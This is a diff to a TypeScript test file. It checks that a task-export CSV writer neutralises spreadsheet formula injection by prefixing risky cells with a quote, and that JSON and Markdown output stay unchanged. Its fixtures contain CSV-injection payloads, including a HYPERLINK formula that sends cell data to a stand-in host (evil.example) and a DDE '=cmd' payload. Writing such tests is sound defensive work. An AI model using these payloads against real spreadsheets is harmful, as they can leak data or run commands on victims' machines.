@@ -18,6 +18,24 @@ const TRICKY: Task[] = [
   task('unicode', { title: 'Zürich 漢字 🙂', output: 'é\u2028x' }),
 ];
 
+/** Text a spreadsheet would run as a formula (OWASP CSV injection), in every kind of text cell. */
+const FORMULAS: Task[] = [
+  task('eq', { title: '=HYPERLINK("http://evil.example/?"&A1,"click")', prompt: '=1+2', output: '=cmd|\' /C calc\'!A0', costUsd: -0.25 }),
+  task('plus', { title: '+1', prompt: '+SUM(A1:A9)', output: '+', usage: usage(5, 7) }),
+  task('minus', { title: '-2+3', prompt: '- a bullet', output: '-' }),
+  task('at', { title: '@SUM(1)', prompt: '@', output: '@cell' }),
+  task('tab', { title: '\t=1', prompt: '\tindented', output: '\t' }),
+  task('cr', { title: '\r=1', prompt: '\rline', output: '\r\n=2' }),
+  task('failedFormula', { status: 'failed', error: failure('BAD_REQUEST', '=ERROR()'), output: 'fine = not at start' }),
+];
+
+/** What the writer must put in a text cell: OWASP's rule, spelled out independently of the writer. */
+function asCellText(value: string | number | boolean | null | undefined): string {
+  if (value === undefined || value === null) return '';
+  if (typeof value !== 'string') return String(value);
+  return ['=', '+', '-', '@', '\t', '\r'].includes(value.charAt(0)) ? `'${value}` : value;
+}
+
 /** A minimal RFC 4180 reader, independent of the writer under test. */
 function parseCsv(text: string): string[][] {
   const rows: string[][] = [];
@@ -66,15 +84,50 @@ describe('task export', () => {
     assert.deepEqual(rows[0], CSV_COLUMNS.map(([name]) => name));
     assert.equal(rows.length, records.length + 1);
     records.forEach((r, i) => {
-      const expected = CSV_COLUMNS.map(([, value]) => {
-        const v = value(r);
-        return v === undefined || v === null ? '' : String(v);
-      });
-      assert.deepEqual(rows[i + 1], expected, r.id);
+      assert.deepEqual(rows[i + 1], CSV_COLUMNS.map(([, value]) => asCellText(value(r))), r.id);
     });
     const quotes = rows[2]!;
     assert.equal(quotes[CSV_COLUMNS.findIndex(([n]) => n === 'output')], 'line 1\nline 2\r\nline 3\r"quoted"');
     assert.equal(quotes[CSV_COLUMNS.findIndex(([n]) => n === 'costUsd')], 'unknown', 'an unknown price is never an empty (free-looking) cell');
+  });
+
+  it('CSV shows every text cell starting with = + - @ tab or CR as text (a leading quote), never a number cell', () => {
+    const formulaRecords = FORMULAS.map((t) => toExportRecord(t, ctx));
+    const rows = parseCsv(formatTaskExport(formulaRecords, 'csv', 'now'));
+    const column = (name: string): number => CSV_COLUMNS.findIndex(([n]) => n === name);
+    const cells = rows.slice(1);
+    // Every cell that is text: none may start with a formula character after the writer's prefix.
+    for (const row of cells) {
+      for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell) || /^-?\d+(\.\d+)?(e-?\d+)?$/.test(cell), `cell ${JSON.stringify(cell)} would run as a formula`);
+    }
+    const [eq, plus, minus, at, tab, cr, failed] = cells as string[][];
+    assert.equal(eq![column('title')], `'=HYPERLINK("http://evil.example/?"&A1,"click")`);
+    assert.equal(eq![column('prompt')], "'=1+2");
+    assert.equal(eq![column('output')], "'=cmd|' /C calc'!A0");
+    assert.equal(eq![column('costUsd')], '-0.25', 'a negative cost stays a number');
+    assert.equal(plus![column('title')], "'+1");
+    assert.equal(plus![column('output')], "'+");
+    assert.equal(plus![column('inputTokens')], '5');
+    assert.equal(minus![column('title')], "'-2+3");
+    assert.equal(minus![column('prompt')], "'- a bullet");
+    assert.equal(at![column('title')], "'@SUM(1)");
+    assert.equal(at![column('prompt')], "'@");
+    assert.equal(tab![column('title')], "'\t=1");
+    assert.equal(tab![column('output')], "'\t");
+    assert.equal(cr![column('title')], "'\r=1");
+    assert.equal(cr![column('output')], "'\r\n=2");
+    assert.equal(failed![column('errorMessage')], "'=ERROR()");
+    assert.equal(failed![column('output')], 'fine = not at start', 'a formula character later in the text changes nothing');
+    assert.equal(failed![column('status')], 'failed');
+  });
+
+  it('JSON and Markdown keep formula-looking text exactly as it was', () => {
+    const formulaRecords = FORMULAS.map((t) => toExportRecord(t, ctx));
+    const parsed = JSON.parse(formatTaskExport(formulaRecords, 'json', 'now')) as JsonExport;
+    assert.deepEqual(parsed.tasks, formulaRecords);
+    assert.equal(parsed.tasks[0]!.prompt, '=1+2');
+    const md = formatTaskExport(formulaRecords, 'markdown', 'now');
+    assert.ok(md.includes('=1+2') && !md.includes("'=1+2"), 'Markdown is unchanged');
   });
 
   it('Markdown fences are longer than any backtick run inside, so output cannot break out', () => {
